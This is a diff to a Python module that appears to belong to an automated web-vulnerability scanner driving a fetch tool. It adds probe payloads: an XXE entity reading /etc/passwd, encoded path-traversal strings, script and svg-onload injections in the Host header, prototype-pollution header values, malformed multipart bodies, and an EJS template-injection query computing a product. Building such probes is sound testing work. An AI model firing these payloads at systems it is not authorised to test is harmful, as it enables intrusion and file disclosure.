@@ -11,7 +11,7 @@ import re
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from random import Random
 from typing import Any
-from urllib.parse import quote, urlencode, urlsplit
+from urllib.parse import quote, unquote, urlencode, urlsplit
 
 from fleet.drivers.desk import Question
 from fleet.drivers.explore.listened import asking, heard
@@ -46,8 +46,25 @@ ODD_HEADERS = (
     ("if-range", "("),
     ("sec-websocket-key", "="),
     ("x-requested-with", "moss"),
+    *((name, "__proto__") for name in ("accept", "accept-encoding", "accept-language", "accept-charset")),
+    ("authorization", "constructor moss"),
+    ("cookie", "__proto__=1; constructor=2"),
+    ("range", "__proto__=0-1"),
+    ("content-type", "__proto__/constructor"),
 )
-"""Values that break what reads them carelessly (RFC 9110, 5 to 14; RFC 7239)."""
+"""Values that break what reads them carelessly (RFC 9110, 5 to 14; RFC 7239), words that every object of a
+script has among them, where a table is asked by what a caller sends."""
+PARTS = (
+    "--qa\r\nContent-Disposition: form-data\r\n\r\nfern\r\n--qa--\r\n",
+    '--qa\r\nContent-Disposition: form-data; name=""\r\n\r\nfern\r\n--qa--\r\n',
+    '--qa\r\nContent-Disposition: form-data; name="a"; filename="moss"\r\n\r\nfern',
+    "--qa\r\nmoss\r\n\r\nfern\r\n--qa\r\nmoss\r\n\r\nfern\r\n",
+    '--qa\r\n Content-Disposition: form-data; name="a"\r\n\r\n\r\n--qa--\r\n',
+)
+"""Bodies in parts that are not well formed (RFC 7578, RFC 2046, 5.1): no name, an empty one, no end, headers
+that are none, a header that begins with a space."""
+ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY qa SYSTEM "file:///etc/passwd">]><a>\n&qa;\n</a>'
+"""A document that asks its reader for a file that everybody may read (CWE-611)."""
 UP = 12
 """Folders that a path climbs out of: more than there are, since above the last one is only itself."""
 
@@ -74,7 +91,7 @@ def questions(point: Point, chance: Random) -> Iterator[Question]:
 def below(folder: Point, chance: Random, *, root: bool) -> Iterator[Question]:
     """The attacks on what stands below a folder, in spellings that no link has: out of the folder to a file
     that everybody may read, and, from the root, to a foreign host, as a browser can send it."""
-    up, file = "../" * UP, "etc/passwd"
+    up, file, named = "../" * UP, "etc/passwd", "etc/host.conf"  # some only serve a name with an extension
     ways = (
         file,  # where a path that is joined begins anew
         up + file,
@@ -83,6 +100,9 @@ def below(folder: Point, chance: Random, *, root: bool) -> Iterator[Question]:
         "....//" * UP + file,
         f"/{file}",
         f"/{file}".replace("/", "%2f"),
+        up + named,
+        up.replace("..", "%2e%2e") + named,
+        (up + named).replace("/", "%2f"),
         (up + file).replace("..", "%252e%252e").replace("/", "%252f"),
         (up + file).replace("/", "%5c"),
         "..;/" * UP + file,
@@ -137,6 +157,16 @@ def headers(url: str) -> Iterator[Question]:
         yield Question(tuple(Step(tool="qa_fetch", args={"url": url, **one}) for one in more))
 
 
+def hosts(url: str, chance: Random) -> Iterator[Question]:
+    """Names by which nobody calls a host: what a page repeats of them never runs, and none ends the server.
+    A name that may be another server's is not sent (fleet/broker/forward.py)."""
+    canary, point = _word(chance), Point(url, "header", "host", "")
+    markup = (canary, f"<script>{canary}</script>", f"\"'><svg onload={canary}>")
+    yield Question(tuple(point.step(text, canary=canary) for text in markup))
+    odd = ({}, *({"headers": {"host": name}} for name in ("a b:x", "[", "%", "^|")))
+    yield Question(tuple(Step(tool="qa_fetch", args={"url": url, **one}) for one in odd))
+
+
 def bodies(point: Point) -> Iterator[Question]:
     """Bodies that are not what their type says, beside the one that a client sends."""
     plain = {"body": point.value, "body_type": point.name}
@@ -151,11 +181,15 @@ def bodies(point: Point) -> Iterator[Question]:
         {"body": "%&[=&a[]=1&a[b]=2&=", "body_type": FORM},
         {"body": "<a", "body_type": "application/xml"},
         {**plain, "body_type": "/;="},
+        *({"body": parts, "body_type": "multipart/form-data; boundary=qa"} for parts in PARTS),
     ]
     url = {"url": point.url, "method": point.method}
     for at in range(0, len(ways), 6):
         steps = ({**url, **one} for one in (plain, *ways[at : at + 6]))
         yield Question(tuple(Step(tool="qa_fetch", args=args) for args in steps))
+    xml = point.name if "xml" in point.name else "application/xml"
+    documents = ({**url, "body": body, "body_type": xml} for body in ("<a>\nmoss\n</a>", ENTITY))
+    yield Question(tuple(Step(tool="qa_fetch", args=args) for args in documents))
 
 
 def origins(url: str, own: Sequence[str], chance: Random) -> Iterator[Question]:
@@ -248,6 +282,15 @@ def _listened_command(point: Point, chance: Random) -> Iterator[Question]:
     yield _beside(point, *(f"{point.value}{way}" for way in asking(chance)))
 
 
+def options(url: str, chance: Random) -> Question:
+    """An option of a template's engine in the query, for a page whose whole query becomes its values: a
+    product that the engine would compute (CWE-1336)."""
+    name = quote("settings[view options][outputFunctionName]", safe="")
+    program = f"x;__append({chance.randrange(1_009, 9_973)}*{chance.randrange(1_009, 9_973)});y"
+    point = Point(f"{url}{'&' if '?' in url else '?'}{name}=moss", "query", unquote(name), "moss")
+    return _beside(point, program)
+
+
 def _climb(point: Point, _chance: Random) -> Iterator[Question]:
     """Paths to a file that everybody may read; `..` by the usual spellings, and the path itself."""
     up, file = "../" * 8, "etc/passwd"
@@ -330,7 +373,7 @@ ATTACKS: tuple[Attack, ...] = (
 NAMED: tuple[tuple[re.Pattern[str], tuple[Attack, ...]], ...] = (
     (_ORDERS, (_condition, _quote)),
     (re.compile(r"(?i)next|redirect|return|continue|dest|callback|forward|goto|ur[il]\Z"), (_redirect,)),
-    (re.compile(r"(?i)file|path|folder|dir\Z|page|template|document|include|attachment"), (_climb,)),
+    (re.compile(r"(?i)file|path|folder|dir\Z|page|template|layout|document|include|attachment"), (_climb,)),
     (re.compile(r"(?i)\A(?:q|query|search|term|filter|where|keyword)\Z"), (_script, _quote, _condition)),
     (
         re.compile(r"(?i)\A(?:cmd|command|exec|host|ip|domain|ping|expr|formula|calc)"),
